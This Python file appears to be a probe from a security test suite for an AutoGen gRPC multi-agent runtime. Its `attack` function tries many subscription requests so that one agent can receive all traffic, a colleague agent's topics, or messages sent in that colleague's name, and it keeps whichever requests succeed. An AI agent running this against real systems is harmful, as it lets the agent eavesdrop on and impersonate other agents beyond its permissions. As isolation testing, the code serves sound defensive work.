"""Subscribe to what others publish or are sent: everything, a colleague's topics, in a colleague's name."""

REFUSED = "subscri|topic"


async def attack(agent, message, ctx, targets):
    from autogen_core import TypePrefixSubscription, TypeSubscription
    from autogen_ext.runtimes.grpc._utils import subscription_to_proto
    from autogen_ext.runtimes.grpc.protos import agent_worker_pb2 as pb

    link, me, found = connection(agent), agent.id.type, []
    for prefix, listener in (("", me), (f"{targets['honest']}:", me), (f"{me}:", targets["honest"]), ("creator", me)):
        for kind in (
            lambda p, n: TypePrefixSubscription(topic_type_prefix=p, agent_type=n),
            lambda p, n: TypeSubscription(topic_type=p, agent_type=n),
        ):
            request = pb.AddSubscriptionRequest(subscription=subscription_to_proto(kind(prefix, listener)))
            with _contextlib.suppress(Exception):
                await link.stub.AddSubscription(request, metadata=link.metadata)
                found.append((prefix, listener))
    return found
